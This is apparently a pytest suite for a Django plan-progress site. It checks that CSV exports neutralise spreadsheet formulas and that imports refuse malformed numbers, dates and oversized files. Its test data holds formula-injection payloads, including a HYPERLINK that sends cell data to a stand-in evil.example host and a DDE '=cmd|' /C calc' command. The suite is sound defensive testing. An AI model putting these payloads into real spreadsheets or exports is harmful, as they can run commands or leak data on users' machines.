            node=node(plan, STRATEGY),
            date=date(2024, 3, 31 - n),
            status="behind" if reason else "in_progress",
            percent=Decimal(10 * n),
            summary_zh_hant=zh,
            summary_en=en,
            source=source,
            agency=agency,
            reason=reason,
            remedy=remedy,
            **published,
        )
    Indicator.objects.create(
        node=node(plan, STRATEGY),
        key="test-hostile",
        name_zh_hant="=1+2",
        name_en="@SUM(1)",
        measure_zh_hant="\tx",
        unit_zh_hant="-5 公里",
        unit_en="+886",
        direction="decrease",
        baseline_year=111,
        baseline=Decimal(-5),
        values={"112": {"target": "-6", "actual": "-5.5", "source": "-來源"}},
        source='=HYPERLINK("http://evil.example/")',
        **published,
    )
    return agency


def test_export_neutralises_formulas_and_imports_back_unchanged(hostile, tmp_path):
    files = {kind: export(kind) for kind in ("agencies", "responsibilities", "indicators")}
    files["updates"] = export("updates")
    updates = {row["summary_zh_hant"]: row for row in rows_of(files["updates"])}
    first = updates["'=1+2"]
    assert (first["summary_en"], first["source"]) == ("'@SUM(1)", "'+886")
    assert (first["reason"], first["remedy"]) == ("'-5 公里", "'\tx")
    assert first["date"] == "2024-03-31" and first["percent"] == "0"
    assert updates["''quoted"]["summary_en"] == "'\rx"
    assert updates['\'=HYPERLINK("http://evil.example/?"&A2,"Open")']["summary_en"] == "'-"
    (indicator,) = rows_of(files["indicators"])
    assert indicator["baseline"] == "-5"  # a number: never an apostrophe
    assert (indicator["target_112"], indicator["actual_112"]) == ("-6", "-5.5")
    assert indicator["source_112"] == "'-來源" and indicator["unit_zh_hant"] == "'-5 公里"
    assert indicator["name_zh_hant"] == "'=1+2" and indicator["measure_zh_hant"] == "'\tx"
    (agency,) = rows_of(files["agencies"])
    assert (agency["name_zh_hant"], agency["name_en"]) == ("'=1+2", "'@SUM(1)")
    # Read back: every row unchanged, every stored value the same.
    before = snapshot()
    for kind, text in files.items():
        out, _ = run_import(tmp_path, text.lstrip("\ufeff"), name=f"{kind}.csv")
        rows = len(rows_of(text))
        assert f"new 0, changed 0, unchanged {rows}" in out, (kind, out)
    assert snapshot() == before


def test_public_downloads_are_spreadsheet_safe(client, hostile, plan):
    def rows(url):
        response = client.get(url)
        assert response.status_code == 200
        return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))

    summaries = [row["summary_zh_hant"] for row in rows(f"/data/{SLUG}/updates.csv")]
    assert "'=1+2" in summaries and "=1+2" not in summaries
    assert all(not s.startswith(("=", "+", "-", "@")) for s in summaries)
    (agency,) = rows(f"/data/{SLUG}/agencies.csv")
    assert agency["name_zh_hant"] == "'=1+2"
    # The plan's own CSV: a title a spreadsheet would run.
    PlanNode.objects.filter(plan=plan, ref=STRATEGY).update(title_en="=cmd|' /C calc'!A0")
    by_ref = {row["ref"]: row for row in rows(f"/data/{SLUG}.csv")}
    assert by_ref[STRATEGY]["title_en"] == "'=cmd|' /C calc'!A0"


def test_a_hostile_username_is_neutralised_in_the_audit_export(client, db):
    hostile = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
    client.post("/admin/login/", {"username": hostile, "password": "wrong"})
    assert AuditEvent.objects.filter(kind="login_failed", username=hostile).exists()
    boss = User.objects.create_superuser("boss", password="Boss-password-2026")
    client.force_login(boss)
    response = client.get("/admin/staff/auditevent/export.csv")
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    usernames = [row[1] for row in rows[1:]]
    assert "'" + hostile in usernames and hostile not in usernames
    # The time is a typed value: written as it was, never with an apostrophe.
    assert all(re.match(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d$", r[0]) for r in rows[1:])


@pytest.mark.parametrize(
    ("kind", "column", "value", "says"),
    [
        ("updates", "percent", "1e999999999", "is not a number"),  # decimal.Overflow: a 500
        ("updates", "percent", "1e4300", "is not a number"),
        ("indicators", "baseline", "1e400000", "is not a number"),
        ("indicators", "target_112", "1e-999999", "is not a number"),  # a million zeros
        ("updates", "percent", "٥٥", "is not a number"),  # Arabic-Indic digits, read as 55
        ("updates", "percent", "5_0", "is not a number"),
        ("indicators", "baseline", "12345678901234", "at most 11 digits before"),
        ("indicators", "target_113", "12345678901234", "at most 11 digits before"),  # stored
        ("indicators", "actual_112", "1.23456", "too many decimals: at most 3"),  # stored
        ("indicators", "weight", "12345", "at most 4 digits before"),
        ("updates", "percent", "55.55", "too many decimals: at most 1"),  # never rounded
    ],
)
def test_numbers_outside_the_grammar_are_refused_by_row_and_column(
    plan, agencies, tmp_path, kind, column, value, says
):
    content = (
        update_file(**{column: value}) if kind == "updates" else indicator_file(**{column: value})
    )
    before = snapshot()
    summary, err = failing_import(tmp_path, content)
    assert "1 個問題，未寫入任何資料" in summary and "1 problem; nothing" in summary, err
    zh, en = err.strip().split(" / ")
    assert zh.startswith(f"第 2 列「{column}」欄：「{value}」"), zh
    assert en.startswith(f"Row 2, column “{column}”: “{value}”"), en
    assert says in en
    assert snapshot() == before


def test_the_upload_preview_refuses_an_enormous_exponent(client, progress):
    reviewer = staff("reviewer", REVIEWER)
    client.force_login(reviewer)
    upload = SimpleUploadedFile(
        "updates.csv", update_file(percent="1e999999999").encode(), content_type="text/csv"
    )
    response = client.post(IMPORT_URL, {"file": upload})
    assert response.status_code == 200
    assert "Row 2, column “percent”: “1e999999999” is not a number" in response.content.decode()


def test_full_width_digits_and_a_spaced_percent_sign_are_read(plan, agencies, tmp_path):
    run_import(tmp_path, update_file(percent="55 %"))
    assert ProgressUpdate.objects.get(summary_zh_hant="測試摘要").percent == Decimal(55)
    run_import(tmp_path, indicator_file(baseline="１２３", target_112="１，２３４．５"))
    indicator = Indicator.objects.get(key="test-grammar")
    assert indicator.baseline == Decimal(123)
    assert indicator.values["112"]["target"] == "1234.5"


def test_after_an_import_of_extreme_values_every_page_and_download_works(
    client, plan, agencies, tmp_path
):
    run_import(
        tmp_path,
        indicator_file(
            baseline="-99,999,999,999.999",
            target_112="99999999999.999",
            actual_112="0.001",
            target_113="-0",
            weight="9999.99",
        ),
        "--publish",
    )
    run_import(tmp_path, update_file(percent="100"), "--publish")
    for url in (
        f"/data/{SLUG}.json",
        f"/{SLUG}/{STRATEGY}/",
        f"/en/{SLUG}/{STRATEGY}/",
        f"/data/{SLUG}/indicators.csv",
        f"/data/{SLUG}/updates.csv",
        f"/{SLUG}/",
    ):
        assert client.get(url).status_code == 200, url
    (row,) = rows_of(export("indicators"))
    assert (row["baseline"], row["target_112"], row["actual_112"]) == (
        "-99999999999.999",
        "99999999999.999",
        "0.001",
    )


def test_a_value_an_older_import_stored_is_exported_as_it_is(plan):
    """The old importer stored 1e999999999 as a target; printing it as a plain decimal
    would write a billion digits."""
    Indicator.objects.create(
        node=node(plan, STRATEGY),
        key="test-legacy",
        name_zh_hant="舊資料",
        direction="increase",
        values={"112": {"target": "1e999999999"}, "113": {"target": "1E+2"}},
        state="published",
        published_at=timezone.now(),
    )
    (row,) = rows_of(export("indicators"))
    assert (row["target_112"], row["target_113"]) == ("1e999999999", "100")


def test_the_check_reads_the_database_a_fixed_number_of_times(plan, agencies, tmp_path):
    """Matching by keys in one pass: the queries a check makes do not grow with the file or
    with what is stored (the old importer compared every new row with every stored update:
    100 s for 5,000 rows against 5,000; speed itself is bench/import_bench.py's)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    transport, _ = agencies
    target = node(plan, STRATEGY)

    def check(stored, rows):
        ProgressUpdate.objects.all().delete()
        ProgressUpdate.objects.bulk_create(
            ProgressUpdate(
                node=target,
                date=date(2020, 1, 1),
                status="in_progress",
                percent=Decimal(n % 100),
                summary_zh_hant=f"測試 {n}",
                source=f"來源 {n}",
                agency=transport,
                state="published",
                published_at=timezone.now(),
            )
            for n in range(stored)
        )
        lines = export("updates").lstrip("\ufeff").split("\r\n")
        new = [
            f"{SLUG},{STRATEGY},2025-01-01,in_progress,{n % 100},新 {n},,來源 {n},,,,"
            for n in range(rows)
        ]
        content = "\r\n".join([lines[0], *lines[1 : rows + 1], *new]) + "\r\n"
        with CaptureQueriesContext(connection) as queries:
            result = import_csv(content.encode(), dry_run=True)
        assert not result.problems, result.errors[:3]
        assert result.counts == {"new": rows, "changed": 0, "unchanged": rows}
        return len(queries)

    assert check(stored=20, rows=10) == check(stored=2000, rows=1000)


def test_an_agency_editor_names_only_their_own_agency_as_the_reporter(progress, tmp_path):
    transport, housing = progress
    editor = staff("editor", AGENCY_EDITOR)
    transport.editors.add(editor)  # transport leads the strategy, housing supports it
    before = snapshot()
    result = import_csv(update_file(agency="test-housing").encode(), user=editor)
    assert not result.applied
    (problem,) = result.problems
    assert (problem.row, problem.column) == (2, "agency")
    assert "填報機關只能是您所屬的機關" in problem.zh and "test-housing" in problem.zh
    assert problem.en.startswith("name one of your own agencies as the reporter")
    assert snapshot() == before
    result = import_csv(update_file(agency="test-transport").encode(), user=editor)
    assert result.applied and result.counts["new"] == 1
    # A stored update reported by the other agency may stay in their file unchanged, but
    # they may not change it under that agency's name.
    other = ProgressUpdate.objects.create(
        node=node(progress[0].responsibilities.first().node.plan, STRATEGY),
        date=date(2024, 9, 30),
        status="in_progress",
        percent=Decimal(30),
        summary_zh_hant="協辦機關的進度",
        source="https://example.org/h",
        agency=housing,
        state="published",
        published_at=timezone.now(),
    )
    row = f"{SLUG},{STRATEGY},2024-09-30,in_progress,30,協辦機關的進度,,https://example.org/h,test-housing,,,{other.pk}"
    header = UPDATE_HEADER + ",update_id"
    result = import_csv(f"{header}\r\n{row}\r\n".encode(), user=editor)
    assert result.counts["unchanged"] == 1 and not result.problems
    result = import_csv(f"{header}\r\n{row.replace(',30,', ',35,')}\r\n".encode(), user=editor)
    assert [(p.row, p.column) for p in result.problems] == [(2, "agency")]


def test_a_withdrawn_update_cannot_be_imported_again(progress, tmp_path):
    reviewer = staff("reviewer", REVIEWER)
    text = export("updates").lstrip("\ufeff")
    behind = ProgressUpdate.objects.get(summary_zh_hant="測試：落後")
    review.withdraw(behind, reviewer, "數字有誤")
    before = snapshot()
    _, err = failing_import(tmp_path, text)
    (line,) = err.strip().splitlines()
    zh, en = line.split(" / ")
    assert zh.startswith("第 2 列「update_id」欄：") and f"編號 {behind.pk} 的進度已撤回" in zh
    assert "數字有誤" in zh and "不能再匯入" in zh
    assert en.startswith(f"Row 2, column “update_id”: update {behind.pk} was withdrawn")
    # Without its id, the same row is that withdrawn update too.
    without_id = re.sub(r",\d+\r\n", ",\r\n", text)
    _, err = failing_import(tmp_path, without_id)
    assert f"update {behind.pk} was withdrawn" in err
    assert snapshot() == before
    behind.refresh_from_db()
    assert behind.state == "withdrawn"


def test_publishing_from_the_importer_is_the_review_rule(progress, tmp_path):
    reviewer = staff("reviewer", REVIEWER)
    rows = rows_of(export("updates"))
    row = next(r for r in rows if r["percent"] == "40.5")
    row["percent"] = "45"
    content = csv_text([list(row), list(row.values())])
    revisions = Revision.objects.count()
    result = import_csv(content.encode(), publish=True, user=reviewer)
    assert result.applied and result.counts["changed"] == 1
    old = ProgressUpdate.objects.get(pk=row["update_id"])
    new = ProgressUpdate.objects.get(supersedes=old)
    assert (old.state, new.state) == ("superseded", "published")
    assert new.reviewed_by == reviewer and new.submitted_by == reviewer
    assert new.published_at is not None
    # One revision for the whole import, with both revisions of the update in it.
    assert Revision.objects.count() == revisions + 1
    revision = Revision.objects.latest("pk")
    assert revision.comment.startswith("Imported updates from CSV") and revision.user == reviewer
    assert {v.object_id for v in revision.version_set.all()} >= {str(old.pk), str(new.pk)}


def test_an_agency_editor_may_not_publish_or_import_agencies(progress):
    transport, _ = progress
    editor = staff("editor", AGENCY_EDITOR)
    transport.editors.add(editor)
    result = import_csv(update_file().encode(), publish=True, user=editor)
    assert [p.en for p in result.problems] == ["only reviewers may publish at once"]
    assert "只有審核人員可以直接發布" in result.errors[0]
    result = import_csv(b"code,name_zh_hant,name_en,url\r\ntest-x,X,,\r\n", user=editor)
    assert [p.en for p in result.problems] == ["you may not import agencies files"]
    assert not Agency.objects.filter(code="test-x").exists()


def test_a_too_large_upload_gets_the_message_on_the_import_page(client, progress):
    reviewer = staff("reviewer", REVIEWER)
    client.force_login(reviewer)
    limit = settings.PROGRESS_UPLOAD_MAX_MB
    assert limit == 2
    body = update_file().encode() + b"#" * (limit * 1024 * 1024)
    before = snapshot()
    response = client.post(
        IMPORT_URL, {"file": SimpleUploadedFile("big.csv", body, content_type="text/csv")}
    )
    assert response.status_code == 200
    assert (
        response.context["form_error"] == f"檔案過大（上限 {limit} MB）。"
    )  # the admin's language
    assert "result" not in response.context and "token" not in response.context
    assert snapshot() == before
    assert f"{limit} MB" in client.get(IMPORT_URL).content.decode()


def nginx_admin_body_limit():
    """client_max_body_size as it applies to the admin's location in deploy/nginx.conf: the
    location's own, else the server's (in megabytes)."""
    conf = re.sub(r"#[^\n]*", "", (ROOT / "deploy" / "nginx.conf").read_text())
    server = conf[conf.index("server {") :]
    admin = re.search(r"location\s+/admin/\s*\{([^}]*)\}", server)
    outside = server[: admin.start()] + server[admin.end() :]
    outside = re.sub(r"location[^{]*\{[^}]*\}", "", outside)
    found = re.findall(r"client_max_body_size\s+(\d+)([kKmM]?);", admin.group(1))
    found = found or re.findall(r"client_max_body_size\s+(\d+)([kKmM]?);", outside)
    assert len(found) == 1, found
    number, unit = found[0]
    return int(number) / {"k": 1024, "m": 1, "": 1024 * 1024}[unit.lower()]


def test_nginx_takes_the_same_upload_limit_and_has_its_own_page():
    assert nginx_admin_body_limit() == settings.PROGRESS_UPLOAD_MAX_MB
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE == settings.PROGRESS_UPLOAD_MAX_MB * 1024 * 1024
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE == settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    conf = (ROOT / "deploy" / "nginx.conf").read_text()
    assert re.search(r"^\s*error_page 413 /static/errors/413\.html;", conf, re.MULTILINE)
    page = (ROOT / "static" / "errors" / "413.html").read_text()
    assert f"{settings.PROGRESS_UPLOAD_MAX_MB} MB" in page
    assert "檔案太大" in page and "File too large" in page and '<section lang="en">' in page
    # CSP-clean: nothing inline.
    assert "<script" not in page and "<style" not in page and not re.search(r"\sstyle=", page)


# ------------------------------------------------------------------------------------------
# What a hostile tester broke, each kept broken no more (a test each, failing before).


def update_row(**cells):
    row = {
        "plan": SLUG,
        "ref": "mrt-network",
        "date": "2025-03-31",
        "status": "in_progress",
        "percent": "50",
        "summary_zh_hant": "摘要",
        "summary_en": "",
        "source": "https://x.example/",
        "agency": "test-transport",
        "reason": "",
        "remedy": "",
        **cells,
    }
    header = UPDATE_HEADER.split(",") + [name for name in cells if name == "update_id"]
    return ",".join(header) + "\n" + ",".join(row.get(name, "") for name in header) + "\n"


@pytest.mark.parametrize(
    ("cells", "column"),
    [
        ({"update_id": "²"}, "update_id"),  # a superscript digit: crashed int()
        ({"summary_zh_hant": "摘\x00要"}, "summary_zh_hant"),  # NUL: PostgreSQL refused it
        ({"percent": "55.555"}, "percent"),  # too many decimals: an empty message
        ({"date": "25/3/31"}, "date"),  # ROC 25: written as 1936
        ({"percent": "5_0"}, "percent"),  # read as 50
    ],
)
def test_bad_cells_are_errors_with_row_and_column_and_nothing_is_written(
    plan,
    agencies,
    tmp_path,
    cells,
    column,
):
    before = snapshot()
    summary, message = failing_import(tmp_path, update_row(**cells))
    assert "1 個問題" in summary
    assert f"第 2 列「{column}」欄：" in message and f"Row 2, column “{column}”: " in message
    line = next(x for x in message.splitlines() if f"「{column}」" in x)
    zh, en = line.split(" / Row 2")
    assert zh.split("欄：", 1)[1].strip() and en.split(": ", 1)[1].strip()  # says what
    assert snapshot() == before


def test_mistyped_years_and_underscores_are_not_read():
    for text in ("25/3/31", "0/1/1", "1936-03-31"):
        with pytest.raises(ValueError):
            parse_date(text)
    with pytest.raises(ValidationError):
        parse_percent("5_0")


# ------------------------------------------------------------------------------------------
# Issue 19, attacked: a hostile agency editor, a careless reviewer, a visitor, hostile files.


def test_a_file_of_bad_cells_gets_a_short_answer(client, progress_world):
    """A 0.9 MB file with a control character in each of its 440,000 cells made 440,000
    problems and a 51 MB preview page (18 s here; a 2 MB file outlasts gunicorn's 30 s)."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from progress.spreadsheets.importer import MAX_PROBLEMS

    header = "plan,ref,date,status,percent,summary_zh_hant,summary_en,source,agency,reason,remedy"
    body = (header + "\r\n" + ("\x01," * 10 + "\x01\r\n") * 40000).encode()
    client.force_login(progress_world["editor"])
    response = client.post(
        "/admin/progress/import/",
        {"file": SimpleUploadedFile("bad.csv", body, content_type="text/csv")},
    )
    assert response.status_code == 200
    problems = response.context["result"].problems
    assert len(problems) == MAX_PROBLEMS + 1
    assert f"問題超過 {MAX_PROBLEMS} 個" in str(problems[-1])
    assert len(response.content) < 200_000
    assert not ProgressUpdate.objects.exclude(pk=progress_world["update"].pk).exists()


# ------------------------------------------------------------------------------------------
# Issue 21: English reason, remedy and target-change reason (optional columns); the
# importer's messages through gettext, in the reviewers' wording; dates that do not exist.


def csv_of(rows, drop=()):
    """`rows` (dicts, as rows_of reads them) as a file, without the columns `drop`."""
    names = [name for name in rows[0] if name not in drop]
    return csv_text([names, *([row[name] for name in names] for row in rows)])


def test_english_reason_and_remedy_are_optional_columns(progress, tmp_path):
    rows = rows_of(export("updates"))
    behind = next(row for row in rows if row["status"] == "behind")
    assert (behind["reason"], behind["reason_en"], behind["remedy_en"]) == ("測試原因", "", "")
    behind.update(reason_en="Land acquisition delayed", remedy_en="Talks with the landowners")
    printed, _ = run_import(tmp_path, csv_of([behind]), "--publish")
    assert "changed 1" in printed
    current = ProgressUpdate.objects.get(state="published", node__ref=ACTION)
    assert (current.reason_zh_hant, current.reason_en) == ("測試原因", "Land acquisition delayed")
    assert (current.remedy_zh_hant, current.remedy_en) == ("測試對策", "Talks with the landowners")
    exported = next(row for row in rows_of(export("updates")) if row["status"] == "behind")
    assert exported["reason_en"] == "Land acquisition delayed"
    # A spreadsheet made before the English columns (or without them) imports as it did:
    # the same row is unchanged, and the English stays as stored.
    before = snapshot()
    old_style = csv_of(rows_of(export("updates")), drop=("reason_en", "remedy_en"))
    assert old_style.splitlines()[0] == UPDATE_HEADER + ",update_id"
    printed, _ = run_import(tmp_path, old_style)
    assert "new 0, changed 0, unchanged 2" in printed and snapshot() == before
    # Without the ids as well (as a template is filled in): matched by content, unchanged.
    printed, _ = run_import(
        tmp_path, csv_of(rows_of(export("updates")), drop=("reason_en", "remedy_en", "update_id"))
    )
    assert "new 0, changed 0, unchanged 2" in printed and snapshot() == before
    # A change in the old format corrects the Chinese and keeps the English.
    changed = rows_of(old_style)
    next(row for row in changed if row["status"] == "behind")["remedy"] = "測試新對策"
    run_import(tmp_path, csv_of(changed))
    draft = ProgressUpdate.objects.get(state="draft", node__ref=ACTION)
    assert (draft.remedy_zh_hant, draft.remedy_en) == ("測試新對策", "Talks with the landowners")
    assert draft.reason_en == "Land acquisition delayed"


def test_a_new_update_in_the_old_format_has_no_english(plan, agencies, tmp_path):
    content = update_file(status="behind", reason="用地取得延宕", remedy="協調地主")
    assert "reason_en" not in content
    run_import(tmp_path, content)
    update = ProgressUpdate.objects.get()
    assert (update.reason_zh_hant, update.remedy_zh_hant) == ("用地取得延宕", "協調地主")
    assert not update.reason_en and not update.remedy_en


def test_english_target_change_reason_is_an_optional_column(progress, tmp_path):
    rows = rows_of(export("indicators"))
    assert rows[0]["target_change_reason_en"] == ""
    rows[0].update(
        target_112="900",
        target_change_reason="中央補助延後核定",
        target_change_reason_en="Central subsidy approved later",
    )
    run_import(tmp_path, csv_of(rows))
    draft = Indicator.objects.get(key="test-ridership", state="draft")
    assert draft.target_change_reason_zh_hant == "中央補助延後核定"
    assert draft.target_change_reason_en == "Central subsidy approved later"
    # The Chinese is the one required: an English reason alone does not do.
    rows[0].update(target_112="800", target_change_reason="")
    _, err = failing_import(tmp_path, csv_of(rows))
    assert "Row 2, column “target_change_reason”" in err
    # Without the column, the indicators file imports as before; the English stays.
    rows[0].update(target_112="850", target_change_reason="中央補助再延後")
    printed, _ = run_import(tmp_path, csv_of(rows, drop=("target_change_reason_en",)))
    assert "changed 1" in printed
    draft.refresh_from_db()
    assert draft.values["112"]["target"] == "850"
    assert draft.target_change_reason_en == "Central subsidy approved later"


@pytest.mark.parametrize(
    ("typed", "english", "chinese"),
    [
        ("114/02/30", "does not exist: month 2 has 28 days", "不存在：2 月只有 28 天"),
        ("2024-02-30", "does not exist: month 2 has 29 days", "不存在：2 月只有 29 天"),
        ("2025-04-31", "does not exist: month 4 has 30 days", "不存在：4 月只有 30 天"),
        ("114/13/01", "does not exist: there is no month 13", "不存在：沒有 13 月"),
        ("2025-03-00", "does not exist: month 3 has 31 days", "不存在：3 月只有 31 天"),
    ],
)
def test_a_date_that_does_not_exist_says_so(plan, agencies, tmp_path, typed, english, chinese):
    """114/02/30 was "unreadable (use 2025-03-31 or 114/03/31)": its format is right, the
    calendar has no such day."""
    summary, message = failing_import(tmp_path, update_row(date=typed))
    assert f"Row 2, column “date”: the date “{typed}” {english}" in message
    assert f"第 2 列「date」欄：日期「{typed}」{chinese}" in message
    assert "unreadable" not in message and "無法辨識" not in message


def test_a_mistyped_year_and_an_unreadable_date_say_what_they_are(plan, agencies, tmp_path):
    _, message = failing_import(tmp_path, update_row(date="25/3/31"))
    assert "is not between 1990 and 2200" in message
    _, message = failing_import(tmp_path, update_row(date="明年"))
    assert "unreadable date “明年” (use 2025-03-31 or 114/03/31)" in message


def test_the_importers_messages_come_from_the_catalogue(progress):
    """Every message is a gettext message rendered in each language (they were Chinese and
    English strings in the code, outside django.po), in the reviewers' wording."""
    from django.utils.functional import Promise

    header = UPDATE_HEADER.replace(",agency,", ",agency,agency,") + ",remark"
    content = (
        f"{header}\r\n"
        f"{SLUG},livable,2025-03-31,behind,55,測試,,,,,,\r\n"
        f"{SLUG},{STRATEGY},2025-03-31,behind,55,測試,,,,,,\r\n"
    )
    result = import_csv(content.encode(), dry_run=True)
    columns = [(p.column, p.zh, p.en) for p in result.problems]
    assert ("agency", "此欄位重複", "this column appears twice") in columns
    assert ("remark", "無法辨識此欄位", "unknown column") in columns
    fixed = content.replace(",agency,agency,", ",agency,").replace(",remark", "")
    fixed = fixed.replace(",,,,,,\r\n", ",,,,,\r\n")
    result = import_csv(fixed.encode(), dry_run=True)
    said = {(p.row, p.column): (p.zh, p.en) for p in result.problems}
    assert said[(2, "ref")][0] == "「livable」不是推動策略或具體作法"
    assert said[(3, "source")][0] == "每筆進度更新須註明資料來源：網址或公文字號"
    assert said[(3, "reason")][0] == "進度落後須填寫落後原因"
    assert said[(3, "remedy")][0] == "進度落後須填寫因應對策"
    for problem in result.problems:
        assert isinstance(problem.message, Promise) and problem.zh != problem.en
    assert str(result.problems[0]).startswith("第 2 列「ref」欄：「livable」不是")
